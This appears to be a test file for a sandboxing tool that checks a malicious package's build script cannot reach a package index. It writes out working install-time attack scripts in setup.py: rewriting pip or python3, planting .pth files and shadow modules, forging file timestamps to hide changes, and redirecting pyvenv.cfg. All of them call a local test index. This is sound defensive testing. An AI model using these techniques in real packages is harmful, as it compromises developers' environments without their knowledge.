"""The user's own command may make an environment and start the pip in it, which reaches the index. A
distribution's build tries to be that pip, or to have it work for it. What it tries is a download of `loot`;
it is the index that tells whether it came through."""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import test  # noqa: E402
from honest import PYTHON  # noqa: E402
from pypi_index import PypiIndex, wheel  # noqa: E402
from python_environment import make_environment  # noqa: E402

FACTS = {"stops": "attribution", "event": "flow.denied"}

SETUP = "import os, subprocess, sys\n{script}\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n"


def attack(t, script, makefile, *, made=True, prepared=()):
    """`evil`, whose setup.py is `script`, is installed by `make`; `prepared`: files of a wheel of that name. In the control run the index is asked for
    `loot`; in the sandbox it is not."""
    index = PypiIndex()
    index.add_file("loot-1.0-py3-none-any.whl", wheel("loot", {"loot.py": ""}))
    if prepared:
        index.add_file("prepared-1.0-py3-none-any.whl", wheel("prepared", prepared))
    venv = t.project / ".venv"
    head = f"venv, index = {str(venv)!r}, {index.url()!r}\n"
    index.add_sdist("evil", {"setup.py": SETUP.format(script=head + script)})
    t.write("requirements.txt", "evil\n")
    t.write("Makefile", "all:\n" + "".join(f"\t{line}\n" for line in makefile))
    if made:
        make_environment(t, venv)
    t.bare("cp", "-a", t.project, t.base / "copy")
    # Without a cache: the control leaves nothing there that the sandboxed pip could take instead.
    env = {"PIP_INDEX_URL": index.url(), "PIP_RETRIES": "0", "PIP_NO_CACHE_DIR": "1"}
    asked = lambda: [path for path in index.requests if "/loot" in path]  # noqa: E731
    bare = t.bare("make", env=env)
    t.true(asked(), f"control: the attack works: {bare}")
    t.bare("rm", "-rf", t.project)
    (t.base / "copy").rename(t.project)
    index.requests.clear()
    # As a registry's own rule, but that a loopback address has to be named by the user.
    t.write(t.home / ".config/sandbox-run/config.toml",
            f'[[egress]]\nhost = "localhost"\nports = [{index.port}]\nfor = "package-manager"\n')
    result = t.sandbox("make", env=env)
    t.true([path for path in index.requests if "evil" in path], f"evil was fetched: {result}")
    t.equal(asked(), [], f"the index was asked for loot: {result}")
    t.true(result.of_type("flow.denied"), f"it tried, and was refused: {result.events}")
    return result


INSTALL = "-.venv/bin/pip install -r requirements.txt"
DOWNLOAD = "'download', '--no-cache-dir', '-d', '/tmp/x', 'loot'"


@test(time_limit=150)
def a_build_starts_pip(t):
    """A build that starts the environment's pip gets no index"""
    attack(t, f"subprocess.run([venv + '/bin/pip', {DOWNLOAD}])", [INSTALL])


@test(time_limit=150)
def a_build_makes_an_environment(t):
    """A build that makes an environment of its own, and starts the pip in it, gets no index"""
    attack(t, "subprocess.run(['/usr/bin/python3', '-m', 'venv', '/tmp/own'])\n"
           f"subprocess.run(['/tmp/own/bin/pip', {DOWNLOAD}])", [INSTALL])


@test(time_limit=150)
def a_rewritten_pip(t):
    """The pip of an environment that a build has rewritten is none, though make starts it"""
    text = "'#!' + venv + '/bin/python3\\nimport urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'"
    attack(t, f"open(venv + '/bin/pip', 'w').write({text})", [INSTALL, "-.venv/bin/pip install needy"])


@test(time_limit=150)
def a_rewritten_pip_of_a_new_environment(t):
    """…nor that of an environment that the command itself has made"""
    text = "'#!' + venv + '/bin/python3\\nimport urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'"
    attack(t, f"open(venv + '/bin/pip', 'w').write({text})",
           [f"{PYTHON} -m venv .venv", INSTALL, "-.venv/bin/pip install needy"], made=False)


@test(time_limit=150)
def a_path_file_for_the_next_pip(t):
    """The next pip that make starts is no package manager where a build has left a .pth that it runs"""
    attack(t, "import glob\nsite = glob.glob(venv + '/lib/python3*/site-packages')[0]\n"
           "fetch = 'import urllib.request; urllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'\n"
           "open(site + '/evil.pth', 'w').write(fetch)", [INSTALL, "-.venv/bin/pip install needy"])


@test(time_limit=150)
def a_python_for_the_next_pip(t):
    """…nor where a build has put another python3 in the environment, by whichever name pip is started"""
    attack(t, "os.remove(venv + '/bin/python3')\nopen(venv + '/bin/python3', 'w').write('#!/usr/bin/python3\\nimport "
           "urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n')\nos.chmod(venv + '/bin/python3', 0o755)",
           [INSTALL, "-.venv/bin/pip install needy", "-.venv/bin/python3 -m pip install needy"])


# ── the pip of an environment that the command has made, once a build has run ───────────────────

MAKE = f"{PYTHON} -m venv .venv"
FETCH = "'import urllib.request; urllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'"
SITE = "import glob\nsite = glob.glob(venv + '/lib/python3*/site-packages')[0]\n"
NEXT = "-.venv/bin/pip install needy"
NEXT_MODULE = "-.venv/bin/python3 -m pip install needy"


def append(path):
    return f"with open({path}, 'a') as file: file.write({FETCH})\n"


def old_times(path):
    return f"os.utime({path}, (1, 1))\n"


def late(what, script, *, make=MAKE, command=NEXT, before=(), prepared=()):
    def body(t):
        attack(t, script, [make, *before, INSTALL, command], made=False, prepared=prepared)

    body.__doc__ = f"The pip that make starts after a build is none where the build {what}"
    test(time_limit=150, one_by_day=True)(body)


late("has left a .pth, with the times of a file that was there",
     SITE + append("site + '/a.pth'") + old_times("site + '/a.pth'"))
late("has changed a file of pip's, and put back its times",
     SITE + append("site + '/pip/_internal/cli/main.py'") + old_times("site + '/pip/_internal/cli/main.py'") +
     old_times("site + '/pip/_internal/cli'"))
late("has put another python3 in its place",
     "os.remove(venv + '/bin/python3')\n" + "open(venv + '/bin/python3', 'w').write('#!/usr/bin/python3\\n' + "
     + FETCH + ")\nos.chmod(venv + '/bin/python3', 0o755)\n" + old_times("venv + '/bin/python3'"))
late("has put a program as large as it in place of a python3 that is a copy, and put back its times",
     "python = venv + '/bin/python3'\nwas = os.stat(python)\nos.remove(python)\n"
     "with open(python, 'w') as file:\n    file.write('#!/usr/bin/python3\\n' + " + FETCH + ")\n"
     "    file.write('#' * (was.st_size - file.tell()))\n"
     "os.chmod(python, 0o755)\nos.utime(python, ns=(was.st_atime_ns, was.st_mtime_ns))\n",
     make=f"{PYTHON} -m venv --copies .venv")
late("has led pyvenv.cfg to a Python of its own, of which it is a copy",
     "evil = os.path.dirname(venv) + '/node_modules/evil'\nos.makedirs(evil)\npython = venv + '/bin/python3'\nos.remove(python)\n"
     "for path in python, evil + '/python3':\n"
     "    open(path, 'w').write('#!/usr/bin/python3\\n' + " + FETCH + ")\n    os.chmod(path, 0o755)\n"
     "lines = open(venv + '/pyvenv.cfg').read().splitlines()\n"
     "lines = [line if not line.startswith('home') else 'home = ' + evil for line in lines]\n"
     "open(venv + '/pyvenv.cfg', 'w').write('\\n'.join(lines))\n",
     make=f"{PYTHON} -m venv --copies .venv")
late("has left a module that pip looks for", SITE + append("site + '/attr.py'"))
late("has left a module beside the program, where Python looks first", append("venv + '/bin/optparse.py'"))
late("has left a module in the project, where `python -m` looks first",
     append("os.path.dirname(venv) + '/pip.py'"), command=NEXT_MODULE)
late("has renamed a directory into pip's place that a wheel brought before",
     SITE + "os.rename(site + '/pip', site + '/was')\nos.rename(site + '/stash/pip', site + '/pip')\n",
     before=("-.venv/bin/pip install prepared",), prepared={
         "stash/pip/__init__.py": "", "stash/pip/_internal/__init__.py": "", "stash/pip/_internal/cli/__init__.py": "",
         "stash/pip/_internal/cli/main.py": "import os, urllib.request\ndef main():\n"
         "    urllib.request.urlopen(os.environ['PIP_INDEX_URL'] + 'loot/')\n"})
